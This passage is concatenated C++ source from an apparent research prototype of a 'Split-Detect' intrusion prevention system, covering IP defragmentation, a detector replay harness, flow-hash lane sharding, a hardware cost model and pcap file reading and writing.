void IpDefragmenter::insert_chunk(Pending& p, std::size_t off, ByteView data) {
  if (data.empty()) return;
  std::size_t begin = off;
  std::size_t end = off + data.size();

  // Find chunks intersecting [begin, end).
  auto it = p.chunks.lower_bound(begin);
  if (it != p.chunks.begin()) {
    auto prev = std::prev(it);
    if (prev->first + prev->second.size() > begin) it = prev;
  }

  Bytes incoming(data.begin(), data.end());

  while (it != p.chunks.end() && it->first < end) {
    const std::size_t c_begin = it->first;
    const std::size_t c_end = c_begin + it->second.size();
    if (c_end <= begin) {
      ++it;
      continue;
    }
    ++stats_.overlaps;
    if (cfg_.policy == IpOverlapPolicy::first) {
      // Existing bytes win: carve the incoming range around this chunk.
      if (c_begin <= begin && c_end >= end) return;  // fully covered
      if (c_begin > begin) {
        // Insert the non-overlapped prefix, then continue after the chunk.
        const std::size_t n = c_begin - begin;
        Bytes prefix(incoming.begin(), incoming.begin() + static_cast<std::ptrdiff_t>(n));
        p.byte_count += prefix.size();
        p.chunks.emplace(begin, std::move(prefix));
      }
      if (c_end >= end) return;
      incoming.erase(incoming.begin(),
                     incoming.begin() + static_cast<std::ptrdiff_t>(c_end - begin));
      begin = c_end;
      ++it;
    } else {
      // Incoming bytes win: trim or split the existing chunk.
      if (c_begin < begin) {
        const std::size_t keep = begin - c_begin;
        Bytes tail;
        if (c_end > end) {
          tail.assign(it->second.begin() + static_cast<std::ptrdiff_t>(end - c_begin),
                      it->second.end());
        }
        p.byte_count -= it->second.size() - keep;
        it->second.resize(keep);
        if (!tail.empty()) {
          p.byte_count += tail.size();
          p.chunks.emplace(end, std::move(tail));
        }
        ++it;
      } else if (c_end > end) {
        // Keep only the suffix beyond the incoming range.
        Bytes tail(it->second.begin() + static_cast<std::ptrdiff_t>(end - c_begin),
                   it->second.end());
        p.byte_count -= end - c_begin;
        p.chunks.erase(it);
        p.chunks.emplace(end, std::move(tail));
        break;  // nothing past `end` can intersect
      } else {
        // Fully covered by incoming: drop it.
        p.byte_count -= it->second.size();
        it = p.chunks.erase(it);
      }
    }
  }

  if (!incoming.empty()) {
    p.byte_count += incoming.size();
    p.chunks.emplace(begin, std::move(incoming));
  }
}

bool IpDefragmenter::complete(const Pending& p) {
  if (!p.have_last || p.total_len == 0) return false;
  std::size_t expect = 0;
  for (const auto& [off, chunk] : p.chunks) {
    if (off > expect) return false;
    expect = std::max(expect, off + chunk.size());
    if (expect >= p.total_len) return true;
  }
  return expect >= p.total_len;
}

Bytes IpDefragmenter::assemble(Pending& p) const {
  // Rebuild: header template with fragmentation cleared + payload bytes.
  Bytes header = p.header;
  if (p.nh_off == net::kNoNhOff) {
    // IPv4: patch total length, clear MF and offset (keep DF), re-checksum.
    const std::size_t ihl = static_cast<std::size_t>(header[0] & 0xf) * 4;
    wr_u16be(header, 2, static_cast<std::uint16_t>(ihl + p.total_len));
    const std::uint16_t ff = rd_u16be(header, 6);
    wr_u16be(header, 6, static_cast<std::uint16_t>(ff & net::kIpFlagDf));
    wr_u16be(header, 10, 0);
    const std::uint16_t csum = net::checksum(ByteView(header.data(), ihl));
    wr_u16be(header, 10, csum);
  } else {
    // IPv6: the fragment extension header is not part of the template; link
    // whatever pointed at it straight to the payload protocol and patch the
    // payload length (everything after the 40-byte base header).
    header[p.nh_off] = p.proto;
    wr_u16be(header, 4,
             static_cast<std::uint16_t>(header.size() - net::kIpv6HeaderLen +
                                        p.total_len));
  }

  Bytes out;
  out.reserve(header.size() + p.total_len);
  out.insert(out.end(), header.begin(), header.end());
  std::size_t copied = 0;
  for (const auto& [off, chunk] : p.chunks) {
    if (off >= p.total_len) break;
    // Chunks are non-overlapping and contiguous through total_len; trim any
    // bytes past the declared end.
    const std::size_t take = std::min(chunk.size(), p.total_len - off);
    out.insert(out.end(), chunk.begin(),
               chunk.begin() + static_cast<std::ptrdiff_t>(take));
    copied += take;
    if (copied >= p.total_len) break;
  }
  return out;
}

std::size_t IpDefragmenter::expire(std::uint64_t now_usec) {
  return table_.expire_idle(now_usec, cfg_.timeout_usec);
}

std::size_t IpDefragmenter::memory_bytes() const {
  std::size_t n = table_.memory_bytes();
  table_.for_each([&n](const flow::FlowKey&, const Pending& p) {
    n += p.header.capacity();
    for (const auto& [off, chunk] : p.chunks) {
      (void)off;
      n += chunk.capacity() + kMapNodeOverhead;
    }
  });
  return n;
}

}  // namespace sdt::reassembly
