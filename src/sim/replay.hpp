// Trace replay harness: drives any detector over a packet sequence and
// measures processing cost, producing the raw numbers behind the paper's
// "10% of a conventional IPS / feasible at 20 Gbps" claims (E3).
#pragma once

#include <chrono>
#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "core/engine.hpp"
#include "match/aho_corasick.hpp"
#include "net/packet.hpp"

namespace sdt::sim {

/// Uniform detector interface for replay and the E1 evasion matrix.
class Detector {
 public:
  virtual ~Detector() = default;
  virtual const char* name() const = 0;
  /// Process one packet; return the number of alerts raised by it.
  virtual std::size_t process(const net::PacketView& pv,
                              std::uint64_t now_usec) = 0;
  /// Process `n` packets in arrival order; return alerts raised. The
  /// default loops over process(); detectors with a real batch path
  /// (SplitDetectDetector) override it. Replay feeds batches of
  /// kReplayBatch so every detector pays the same call overhead.
  virtual std::size_t process_batch(const net::PacketView* pvs,
                                    const std::uint64_t* now_usec,
                                    std::size_t n) {
    std::size_t alerts = 0;
    for (std::size_t i = 0; i < n; ++i) alerts += process(pvs[i], now_usec[i]);
    return alerts;
  }
  virtual std::uint64_t total_alerts() const = 0;
  /// Ids of signatures alerted so far (unique).
  virtual std::vector<std::uint32_t> alerted_signatures() const = 0;
  virtual std::size_t flow_state_bytes() const = 0;
};

/// Split-Detect (fast path + slow path).
class SplitDetectDetector final : public Detector {
 public:
  SplitDetectDetector(const core::SignatureSet& sigs,
                      core::SplitDetectConfig cfg = {})
      : engine_(sigs, cfg) {}

  const char* name() const override { return "split-detect"; }
  std::size_t process(const net::PacketView& pv,
                      std::uint64_t now_usec) override {
    const std::size_t before = alerts_.size();
    engine_.process(pv, now_usec, alerts_);
    return alerts_.size() - before;
  }
  std::size_t process_batch(const net::PacketView* pvs,
                            const std::uint64_t* now_usec,
                            std::size_t n) override {
    const std::size_t before = alerts_.size();
    engine_.process_batch(pvs, now_usec, n, alerts_);
    return alerts_.size() - before;
  }
  std::uint64_t total_alerts() const override { return alerts_.size(); }
  std::vector<std::uint32_t> alerted_signatures() const override;
  std::size_t flow_state_bytes() const override {
    return engine_.flow_state_bytes();
  }
  core::SplitDetectEngine& engine() { return engine_; }
  const std::vector<core::Alert>& alerts() const { return alerts_; }

 private:
  core::SplitDetectEngine engine_;
  std::vector<core::Alert> alerts_;
};

/// The conventional reassembling IPS baseline.
class ConventionalDetector final : public Detector {
 public:
  ConventionalDetector(const core::SignatureSet& sigs,
                       core::ConventionalIpsConfig cfg = {})
      : ips_(sigs, cfg) {}

  const char* name() const override { return "conventional-ips"; }
  std::size_t process(const net::PacketView& pv,
                      std::uint64_t now_usec) override {
    return ips_.process(pv, now_usec, alerts_);
  }
  std::uint64_t total_alerts() const override { return alerts_.size(); }
  std::vector<std::uint32_t> alerted_signatures() const override;
  std::size_t flow_state_bytes() const override {
    return ips_.flow_state_bytes();
  }
  core::ConventionalIps& ips() { return ips_; }
  const std::vector<core::Alert>& alerts() const { return alerts_; }

 private:
  core::ConventionalIps ips_;
  std::vector<core::Alert> alerts_;
};

/// The strawman Ptacek-Newsham attacks defeat: whole-signature matching on
/// each packet payload independently, no flow state at all.
class NaivePerPacketDetector final : public Detector {
 public:
  explicit NaivePerPacketDetector(const core::SignatureSet& sigs);

  const char* name() const override { return "naive-per-packet"; }
  std::size_t process(const net::PacketView& pv,
                      std::uint64_t now_usec) override;
  std::uint64_t total_alerts() const override { return alerts_; }
  std::vector<std::uint32_t> alerted_signatures() const override;
  std::size_t flow_state_bytes() const override { return 0; }

 private:
  match::AhoCorasick ac_;
  std::uint64_t alerts_ = 0;
  std::vector<bool> seen_;
};

/// Replay measurement.
struct ReplayResult {
  std::string detector;
  std::uint64_t packets = 0;
  std::uint64_t bytes = 0;
  std::uint64_t alerts = 0;
  std::uint64_t wall_ns = 0;
  std::size_t flow_state_bytes = 0;

  double ns_per_packet() const {
    return packets ? static_cast<double>(wall_ns) / static_cast<double>(packets)
                   : 0.0;
  }
  double ns_per_byte() const {
    return bytes ? static_cast<double>(wall_ns) / static_cast<double>(bytes)
                 : 0.0;
  }
  /// Sustainable line rate for one core at the measured per-byte cost.
  double gbps_per_core() const {
    return wall_ns ? static_cast<double>(bytes) * 8.0 /
                         static_cast<double>(wall_ns)
                   : 0.0;
  }
};

/// Packets handed to Detector::process_batch per call — the batch a real
/// ingest path (NIC burst, ring drain) would deliver. 32 matches a typical
/// RX burst (DPDK/AF_XDP defaults) and keeps the fast path's 8-lane DFA
/// batch fed even when only a fraction of packets carry scannable payload.
inline constexpr std::size_t kReplayBatch = 32;

/// Drive `det` over `pkts` (raw IPv4 datagrams) in kReplayBatch chunks and
/// time it.
ReplayResult replay(Detector& det, const std::vector<net::Packet>& pkts,
                    net::LinkType lt = net::LinkType::raw_ipv4);

}  // namespace sdt::sim
