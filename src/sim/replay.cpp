#include "sim/replay.hpp"

#include <algorithm>
#include <set>

namespace sdt::sim {

namespace {

std::vector<std::uint32_t> unique_ids(const std::vector<core::Alert>& alerts) {
  std::set<std::uint32_t> ids;
  for (const core::Alert& a : alerts) ids.insert(a.signature_id);
  return std::vector<std::uint32_t>(ids.begin(), ids.end());
}

}  // namespace

std::vector<std::uint32_t> SplitDetectDetector::alerted_signatures() const {
  return unique_ids(alerts_);
}

std::vector<std::uint32_t> ConventionalDetector::alerted_signatures() const {
  return unique_ids(alerts_);
}

NaivePerPacketDetector::NaivePerPacketDetector(const core::SignatureSet& sigs)
    : seen_(sigs.size(), false) {
  match::AhoCorasick::Builder b;
  for (const core::Signature& s : sigs) b.add(s.bytes);
  ac_ = b.build(match::AcLayout::dense_dfa);
}

std::size_t NaivePerPacketDetector::process(const net::PacketView& pv,
                                            std::uint64_t /*now_usec*/) {
  if (!pv.ok() || pv.l4_payload.empty()) return 0;
  std::size_t n = 0;
  ac_.scan(pv.l4_payload, match::AhoCorasick::kRoot,
           [&](match::AhoCorasick::Match m) {
             ++alerts_;
             ++n;
             seen_[m.pattern_id] = true;
           });
  return n;
}

std::vector<std::uint32_t> NaivePerPacketDetector::alerted_signatures() const {
  std::vector<std::uint32_t> out;
  for (std::uint32_t i = 0; i < seen_.size(); ++i) {
    if (seen_[i]) out.push_back(i);
  }
  return out;
}

ReplayResult replay(Detector& det, const std::vector<net::Packet>& pkts,
                    net::LinkType lt) {
  ReplayResult r;
  r.detector = det.name();
  const auto t0 = std::chrono::steady_clock::now();
  net::PacketView views[kReplayBatch];
  std::uint64_t ts[kReplayBatch];
  for (std::size_t base = 0; base < pkts.size(); base += kReplayBatch) {
    const std::size_t n = std::min(kReplayBatch, pkts.size() - base);
    for (std::size_t i = 0; i < n; ++i) {
      const net::Packet& p = pkts[base + i];
      views[i] = net::PacketView::parse(p.frame, lt);
      ts[i] = p.ts_usec;
      r.bytes += p.frame.size();
    }
    r.alerts += det.process_batch(views, ts, n);
    r.packets += n;
  }
  const auto t1 = std::chrono::steady_clock::now();
  r.wall_ns = static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(t1 - t0).count());
  r.flow_state_bytes = det.flow_state_bytes();
  return r;
}

}  // namespace sdt::sim
