// Lane sharding: the deployment shape behind "reasonable cost
// implementations at 20 Gbps" — several detector lanes behind a flow-hash
// load balancer, each lane owning its flows outright (no shared state, no
// locks; the design every line-card IPS uses).
//
// Packets are partitioned by a hash of (src ip, dst ip): address-pair
// affinity keeps every packet of a flow — including IP fragments, which
// have no port fields — in one lane. The simulator runs the lanes
// sequentially and reports the *bottleneck* lane, which is what bounds a
// parallel deployment's line rate.
#pragma once

#include <functional>
#include <memory>
#include <vector>

#include "net/packet.hpp"
#include "runtime/runtime.hpp"
#include "sim/replay.hpp"
#include "util/hash.hpp"

namespace sdt::sim {

struct LaneScalingReport {
  std::size_t lanes = 0;
  std::vector<ReplayResult> per_lane;
  std::uint64_t total_bytes = 0;
  std::uint64_t total_alerts = 0;

  /// Wall time of the busiest lane — the parallel deployment's critical path.
  std::uint64_t bottleneck_ns() const {
    std::uint64_t m = 0;
    for (const auto& r : per_lane) m = std::max(m, r.wall_ns);
    return m;
  }
  /// Aggregate sustainable rate with all lanes running concurrently.
  double aggregate_gbps() const {
    const std::uint64_t ns = bottleneck_ns();
    return ns ? static_cast<double>(total_bytes) * 8.0 /
                    static_cast<double>(ns)
              : 0.0;
  }
  /// Byte-load imbalance: busiest lane / ideal share.
  double imbalance() const {
    std::uint64_t m = 0;
    for (const auto& r : per_lane) m = std::max(m, r.bytes);
    const double ideal =
        static_cast<double>(total_bytes) / static_cast<double>(lanes);
    return ideal > 0 ? static_cast<double>(m) / ideal : 0.0;
  }
};

/// Split `pkts` into per-lane streams by address-pair hash.
std::vector<std::vector<net::Packet>> shard_by_address_pair(
    const std::vector<net::Packet>& pkts, std::size_t lanes,
    net::LinkType lt = net::LinkType::raw_ipv4);

/// Run one independent detector per lane and measure each.
LaneScalingReport lane_scaling(
    const std::function<std::unique_ptr<Detector>()>& make_detector,
    const std::vector<net::Packet>& pkts, std::size_t lanes,
    net::LinkType lt = net::LinkType::raw_ipv4);

/// Measured run of the real concurrent runtime (dispatcher thread + one
/// worker thread per lane) over the same kind of trace the sequential
/// simulator takes — the runtime-backed lane-scaling path.
struct RuntimeScalingResult {
  std::size_t lanes = 0;
  runtime::StatsSnapshot stats;   // quiescent: conserved() holds
  std::uint64_t total_alerts = 0;
  std::uint64_t wall_ns = 0;      // feed()..drain(), host wall clock

  /// Aggregate sustainable rate with every lane on its own core: bytes over
  /// the busiest lane's engine time (same critical-path accounting as
  /// LaneScalingReport::aggregate_gbps). Wall-clock only matches this on a
  /// host with >= lanes+1 free cores.
  double aggregate_gbps() const {
    const std::uint64_t ns = stats.bottleneck_busy_ns();
    return ns ? static_cast<double>(stats.bytes) * 8.0 /
                    static_cast<double>(ns)
              : 0.0;
  }
  double wall_gbps() const {
    return wall_ns ? static_cast<double>(stats.bytes) * 8.0 /
                         static_cast<double>(wall_ns)
                   : 0.0;
  }
  /// Host wall clock per fed packet over feed()..drain().
  double wall_ns_per_packet() const {
    return stats.fed ? static_cast<double>(wall_ns) /
                           static_cast<double>(stats.fed)
                     : 0.0;
  }
  /// Per-lane engine memory (flow tables + matcher), measured post-stop.
  std::vector<std::size_t> lane_engine_bytes;
};

/// Start a Runtime, feed `pkts`, drain, stop, and report. `cfg.lanes`,
/// `cfg.link` etc. come from the caller; alerts are counted after stop.
/// Takes the trace by value: an lvalue argument is copied once *outside*
/// the timed region, and the timed feed path moves every frame into the
/// rings (no per-packet deep copy on the clock).
RuntimeScalingResult runtime_lane_scaling(const core::SignatureSet& sigs,
                                          const runtime::RuntimeConfig& cfg,
                                          std::vector<net::Packet> pkts);

}  // namespace sdt::sim
