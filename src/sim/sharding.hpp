// Lane sharding: the deployment shape behind "reasonable cost
// implementations at 20 Gbps" — several detector lanes behind a flow-hash
// load balancer, each lane owning its flows outright (no shared state, no
// locks; the design every line-card IPS uses).
//
// Packets are partitioned by a hash of (src ip, dst ip): address-pair
// affinity keeps every packet of a flow — including IP fragments, which
// have no port fields — in one lane. The simulator runs the lanes
// sequentially and reports the *bottleneck* lane, which is what bounds a
// parallel deployment's line rate.
#pragma once

#include <functional>
#include <memory>
#include <vector>

#include "net/packet.hpp"
#include "sim/replay.hpp"
#include "util/hash.hpp"

namespace sdt::sim {

struct LaneScalingReport {
  std::size_t lanes = 0;
  std::vector<ReplayResult> per_lane;
  std::uint64_t total_bytes = 0;
  std::uint64_t total_alerts = 0;

  /// Wall time of the busiest lane — the parallel deployment's critical path.
  std::uint64_t bottleneck_ns() const {
    std::uint64_t m = 0;
    for (const auto& r : per_lane) m = std::max(m, r.wall_ns);
    return m;
  }
  /// Aggregate sustainable rate with all lanes running concurrently.
  double aggregate_gbps() const {
    const std::uint64_t ns = bottleneck_ns();
    return ns ? static_cast<double>(total_bytes) * 8.0 /
                    static_cast<double>(ns)
              : 0.0;
  }
  /// Byte-load imbalance: busiest lane / ideal share.
  double imbalance() const {
    std::uint64_t m = 0;
    for (const auto& r : per_lane) m = std::max(m, r.bytes);
    const double ideal =
        static_cast<double>(total_bytes) / static_cast<double>(lanes);
    return ideal > 0 ? static_cast<double>(m) / ideal : 0.0;
  }
};

/// Split `pkts` into per-lane streams by address-pair hash.
std::vector<std::vector<net::Packet>> shard_by_address_pair(
    const std::vector<net::Packet>& pkts, std::size_t lanes,
    net::LinkType lt = net::LinkType::raw_ipv4);

/// Run one independent detector per lane and measure each.
LaneScalingReport lane_scaling(
    const std::function<std::unique_ptr<Detector>()>& make_detector,
    const std::vector<net::Packet>& pkts, std::size_t lanes,
    net::LinkType lt = net::LinkType::raw_ipv4);

}  // namespace sdt::sim
