#include "sim/sharding.hpp"

#include <chrono>

#include "runtime/dispatcher.hpp"
#include "util/error.hpp"

namespace sdt::sim {

std::vector<std::vector<net::Packet>> shard_by_address_pair(
    const std::vector<net::Packet>& pkts, std::size_t lanes,
    net::LinkType lt) {
  if (lanes == 0) throw InvalidArgument("shard_by_address_pair: lanes == 0");
  // One hash definition for simulator and runtime: the concurrent runtime's
  // FlowDispatcher decides, and the simulator follows it, so the sequential
  // replay is a byte-exact model of what each lane thread will see.
  std::vector<std::vector<net::Packet>> out(lanes);
  for (const net::Packet& p : pkts) {
    const auto pv = net::PacketView::parse(p.frame, lt);
    out[runtime::address_pair_lane(pv, lanes)].push_back(p);
  }
  return out;
}

LaneScalingReport lane_scaling(
    const std::function<std::unique_ptr<Detector>()>& make_detector,
    const std::vector<net::Packet>& pkts, std::size_t lanes,
    net::LinkType lt) {
  LaneScalingReport rep;
  rep.lanes = lanes;
  const auto shards = shard_by_address_pair(pkts, lanes, lt);
  for (const auto& shard : shards) {
    auto det = make_detector();
    ReplayResult r = replay(*det, shard, lt);
    rep.total_bytes += r.bytes;
    rep.total_alerts += r.alerts;
    rep.per_lane.push_back(std::move(r));
  }
  return rep;
}

RuntimeScalingResult runtime_lane_scaling(const core::SignatureSet& sigs,
                                          const runtime::RuntimeConfig& cfg,
                                          std::vector<net::Packet> pkts) {
  RuntimeScalingResult res;
  res.lanes = cfg.lanes;

  runtime::Runtime rt(sigs, cfg);
  rt.start();
  const auto t0 = std::chrono::steady_clock::now();
  rt.feed(std::move(pkts));  // frames move into the rings, never deep-copied
  rt.drain();
  const auto t1 = std::chrono::steady_clock::now();
  rt.stop();

  res.wall_ns = static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(t1 - t0).count());
  res.stats = rt.stats();
  res.total_alerts = res.stats.alerts;
  res.lane_engine_bytes.reserve(rt.lanes());
  for (std::size_t i = 0; i < rt.lanes(); ++i) {
    res.lane_engine_bytes.push_back(rt.lane_engine(i).memory_bytes());
  }
  return res;
}

}  // namespace sdt::sim
