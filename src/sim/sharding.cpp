#include "sim/sharding.hpp"

#include "util/error.hpp"

namespace sdt::sim {

std::vector<std::vector<net::Packet>> shard_by_address_pair(
    const std::vector<net::Packet>& pkts, std::size_t lanes,
    net::LinkType lt) {
  if (lanes == 0) throw InvalidArgument("shard_by_address_pair: lanes == 0");
  std::vector<std::vector<net::Packet>> out(lanes);
  for (const net::Packet& p : pkts) {
    const auto pv = net::PacketView::parse(p.frame, lt);
    std::size_t lane = 0;
    if (pv.has_ipv4) {
      // Direction-independent: mix each address, combine commutatively so
      // both directions of a conversation land in the same lane.
      const std::uint64_t pair = mix64(pv.ipv4.src().value()) ^
                                 mix64(pv.ipv4.dst().value());
      lane = static_cast<std::size_t>(mix64(pair) % lanes);
    }
    out[lane].push_back(p);
  }
  return out;
}

LaneScalingReport lane_scaling(
    const std::function<std::unique_ptr<Detector>()>& make_detector,
    const std::vector<net::Packet>& pkts, std::size_t lanes,
    net::LinkType lt) {
  LaneScalingReport rep;
  rep.lanes = lanes;
  const auto shards = shard_by_address_pair(pkts, lanes, lt);
  for (const auto& shard : shards) {
    auto det = make_detector();
    ReplayResult r = replay(*det, shard, lt);
    rep.total_bytes += r.bytes;
    rep.total_alerts += r.alerts;
    rep.per_lane.push_back(std::move(r));
  }
  return rep;
}

}  // namespace sdt::sim
