// Hardware cost model for the paper's processing argument.
//
// The paper's "processing ... can be 10% of a conventional IPS ... at
// 20 Gbps" compares *line-card implementations*: the pattern matcher is an
// on-chip (SRAM/TCAM) engine that runs at line rate, and the cost that
// separates the architectures is the stateful, DRAM-bound work — flow
// records, reassembly buffers and segment maps. A software replay on a CPU
// (bench E3's first table) cannot show that separation, because there the
// byte-scan dominates both paths equally.
//
// This model converts each engine's *operation counts* (measured by the
// real implementations during replay) into time on a hardware budget:
//
//   * dram_access_ns  — one random DRAM/RLDRAM access (flow record lookup,
//                       reassembly map node). Default 50 ns.
//   * dram_byte_ns    — streaming DRAM bandwidth for buffer copies.
//                       Default 0.25 ns/B (~4 GB/s per engine).
//   * scan_byte_ns    — on-chip multi-pattern matcher. Default 0.05 ns/B
//                       (a 20 Gbps-class engine; both architectures get
//                       the same matcher, so this term cancels in the
//                       ratio except for double-scanned diverted bytes).
//
// Per-operation accounting (stated so the model is auditable):
//   fast path:     1 flow access per TCP/UDP packet (the 16-byte record
//                  rides in that access), payload scan on-chip.
//   conventional:  1 flow access + 2 reassembly-map accesses per segment,
//                  payload copied into the buffer and read back out
//                  (2 streamed bytes per payload byte), stream scan
//                  on-chip.
//   split-detect:  fast-path cost on all packets + conventional cost on
//                  the diverted share (its slow path *is* the conventional
//                  engine).
#pragma once

#include "core/conventional_ips.hpp"
#include "core/engine.hpp"
#include "core/fast_path.hpp"

namespace sdt::sim {

struct HardwareCostModel {
  double dram_access_ns = 50.0;
  double dram_byte_ns = 0.25;
  double scan_byte_ns = 0.05;
  /// Fast-path flow-record access. This is where the storage claim buys
  /// the processing claim: 16 B/flow x 1M flows = 16 MB, which fits
  /// RLDRAM/eDRAM-class fast memory (~10 ns), whereas the conventional
  /// engine's hundreds of MB of per-flow state must live in commodity
  /// DRAM (~50 ns random access).
  double fast_access_ns = 10.0;
};

/// Modeled nanoseconds for everything the fast path did.
inline double fast_path_cost_ns(const core::FastPathStats& s,
                                const HardwareCostModel& m = {}) {
  const double flow_accesses =
      static_cast<double>(s.tcp_segments + s.udp_datagrams);
  return flow_accesses * m.fast_access_ns +
         static_cast<double>(s.bytes_scanned) * m.scan_byte_ns;
}

/// Modeled nanoseconds for everything a conventional engine did.
inline double conventional_cost_ns(const core::ConventionalIpsStats& s,
                                   const HardwareCostModel& m = {}) {
  const double flow_accesses =
      static_cast<double>(s.tcp_segments + s.udp_datagrams);
  const double map_accesses = 2.0 * static_cast<double>(s.tcp_segments);
  const double copied_bytes = 2.0 * static_cast<double>(s.reassembled_bytes);
  return (flow_accesses + map_accesses) * m.dram_access_ns +
         copied_bytes * m.dram_byte_ns +
         static_cast<double>(s.bytes_scanned) * m.scan_byte_ns;
}

/// Modeled nanoseconds for the whole Split-Detect system (fast + slow).
inline double splitdetect_cost_ns(const core::SplitDetectStats& s,
                                  const HardwareCostModel& m = {}) {
  return fast_path_cost_ns(s.fast, m) + conventional_cost_ns(s.slow, m);
}

}  // namespace sdt::sim
