// Line-rate feasibility model: converts measured per-byte costs and
// per-flow state into the deployment-level quantities the paper argues
// about — cores needed at 10/20 Gbps, memory at 1M connections.
#pragma once

#include <cstdint>
#include <string>

namespace sdt::sim {

struct LineRateEstimate {
  double target_gbps = 0.0;
  double measured_ns_per_byte = 0.0;
  double gbps_per_core = 0.0;
  double cores_needed = 0.0;
};

/// Cores needed to sustain `target_gbps` given a measured per-byte cost.
inline LineRateEstimate cores_for_line_rate(double target_gbps,
                                            double ns_per_byte) {
  LineRateEstimate e;
  e.target_gbps = target_gbps;
  e.measured_ns_per_byte = ns_per_byte;
  e.gbps_per_core = ns_per_byte > 0.0 ? 8.0 / ns_per_byte : 0.0;
  e.cores_needed = e.gbps_per_core > 0.0 ? target_gbps / e.gbps_per_core : 0.0;
  return e;
}

struct StateEstimate {
  std::uint64_t connections = 0;
  double bytes_per_flow = 0.0;
  double total_bytes = 0.0;
};

/// Memory to track `connections` concurrent flows at a measured per-flow
/// cost (the paper's 1M-connection sizing).
inline StateEstimate state_for_connections(std::uint64_t connections,
                                           double bytes_per_flow) {
  StateEstimate e;
  e.connections = connections;
  e.bytes_per_flow = bytes_per_flow;
  e.total_bytes = static_cast<double>(connections) * bytes_per_flow;
  return e;
}

}  // namespace sdt::sim
