#include "pcap/pcap.hpp"

#include <fstream>
#include <sstream>

#include "util/error.hpp"

namespace sdt::pcap {

namespace {

std::unique_ptr<std::istream> open_input(const std::string& path) {
  auto f = std::make_unique<std::ifstream>(path, std::ios::binary);
  if (!*f) throw IoError("pcap::Reader: cannot open '" + path + "'");
  return f;
}

}  // namespace

Reader::Reader(const std::string& path) : stream_(open_input(path)) {
  parse_global_header();
}

Reader::Reader(Bytes data)
    : stream_(std::make_unique<std::istringstream>(
          std::string(reinterpret_cast<const char*>(data.data()), data.size()),
          std::ios::binary)) {
  parse_global_header();
}

std::uint32_t Reader::u32(const std::uint8_t* p) const {
  // pcap headers are in the writer's native order. We classify the file by
  // assembling the magic little-endian; "swapped" therefore means the file
  // is big-endian relative to that convention.
  if (swapped_) {
    return std::uint32_t{p[0]} << 24 | std::uint32_t{p[1]} << 16 |
           std::uint32_t{p[2]} << 8 | std::uint32_t{p[3]};
  }
  return std::uint32_t{p[0]} | std::uint32_t{p[1]} << 8 |
         std::uint32_t{p[2]} << 16 | std::uint32_t{p[3]} << 24;
}

std::uint16_t Reader::u16(const std::uint8_t* p) const {
  if (swapped_) return static_cast<std::uint16_t>(p[1] | (p[0] << 8));
  return static_cast<std::uint16_t>(p[0] | (p[1] << 8));
}

void Reader::parse_global_header() {
  std::uint8_t h[24];
  stream_->read(reinterpret_cast<char*>(h), sizeof h);
  if (stream_->gcount() != sizeof h) {
    throw ParseError("pcap: file shorter than global header");
  }
  // Assemble the magic little-endian and classify.
  const std::uint32_t magic_le = std::uint32_t{h[0]} | std::uint32_t{h[1]} << 8 |
                                 std::uint32_t{h[2]} << 16 |
                                 std::uint32_t{h[3]} << 24;
  switch (magic_le) {
    case kMagicUsec:
      swapped_ = false;
      nsec_ = false;
      break;
    case kMagicNsec:
      swapped_ = false;
      nsec_ = true;
      break;
    case kMagicUsecSwapped:
      swapped_ = true;
      nsec_ = false;
      break;
    case kMagicNsecSwapped:
      swapped_ = true;
      nsec_ = true;
      break;
    default:
      throw ParseError("pcap: bad magic");
  }
  const std::uint16_t ver_major = u16(h + 4);
  if (ver_major != 2) {
    throw ParseError("pcap: unsupported version " + std::to_string(ver_major));
  }
  snaplen_ = u32(h + 16);
  link_type_ = static_cast<net::LinkType>(u32(h + 20));
}

std::optional<net::Packet> Reader::next() {
  std::uint8_t rh[16];
  stream_->read(reinterpret_cast<char*>(rh), sizeof rh);
  const auto got = static_cast<std::size_t>(stream_->gcount());
  if (got == 0) return std::nullopt;  // clean EOF
  if (got < sizeof rh) {
    truncated_ = true;
    return std::nullopt;
  }
  const std::uint32_t ts_sec = u32(rh);
  const std::uint32_t ts_sub = u32(rh + 4);
  const std::uint32_t incl_len = u32(rh + 8);
  // orig_len at rh+12 is informational only.

  if (incl_len > 256 * 1024 * 1024) {
    // A record this large is certainly corruption; stop rather than allocate.
    truncated_ = true;
    return std::nullopt;
  }

  Bytes frame(incl_len);
  stream_->read(reinterpret_cast<char*>(frame.data()),
                static_cast<std::streamsize>(incl_len));
  if (static_cast<std::size_t>(stream_->gcount()) < incl_len) {
    truncated_ = true;
    return std::nullopt;
  }

  const std::uint64_t usec =
      std::uint64_t{ts_sec} * 1000000 + (nsec_ ? ts_sub / 1000 : ts_sub);
  ++count_;
  return net::Packet{usec, std::move(frame)};
}

std::vector<net::Packet> Reader::read_all() {
  std::vector<net::Packet> out;
  while (auto p = next()) out.push_back(std::move(*p));
  return out;
}

// ---------------------------------------------------------------------------

Writer::Writer(const std::string& path, net::LinkType lt, std::uint32_t snaplen)
    : path_(path), snaplen_(snaplen) {
  auto f = std::make_unique<std::ofstream>(path, std::ios::binary);
  if (!*f) throw IoError("pcap::Writer: cannot open '" + path + "'");
  stream_ = std::move(f);
  write_global_header(lt, snaplen);
}

Writer::Writer(net::LinkType lt, std::uint32_t snaplen) : snaplen_(snaplen) {
  stream_ = std::make_unique<std::ostringstream>(std::ios::binary);
  write_global_header(lt, snaplen);
}

Writer::~Writer() = default;

void Writer::write_global_header(net::LinkType lt, std::uint32_t snaplen) {
  ByteWriter w(24);
  w.u32le(kMagicUsec);
  w.u16le(2);  // version 2.4
  w.u16le(4);
  w.u32le(0);  // thiszone
  w.u32le(0);  // sigfigs
  w.u32le(snaplen);
  w.u32le(static_cast<std::uint32_t>(lt));
  const Bytes h = w.take();
  stream_->write(reinterpret_cast<const char*>(h.data()),
                 static_cast<std::streamsize>(h.size()));
}

void Writer::write(const net::Packet& pkt) { write(pkt.ts_usec, pkt.frame); }

void Writer::write(std::uint64_t ts_usec, ByteView frame) {
  const std::size_t incl =
      std::min<std::size_t>(frame.size(), snaplen_ ? snaplen_ : frame.size());
  ByteWriter w(16 + incl);
  w.u32le(static_cast<std::uint32_t>(ts_usec / 1000000));
  w.u32le(static_cast<std::uint32_t>(ts_usec % 1000000));
  w.u32le(static_cast<std::uint32_t>(incl));
  w.u32le(static_cast<std::uint32_t>(frame.size()));
  w.bytes(frame.subspan(0, incl));
  const Bytes rec = w.take();
  stream_->write(reinterpret_cast<const char*>(rec.data()),
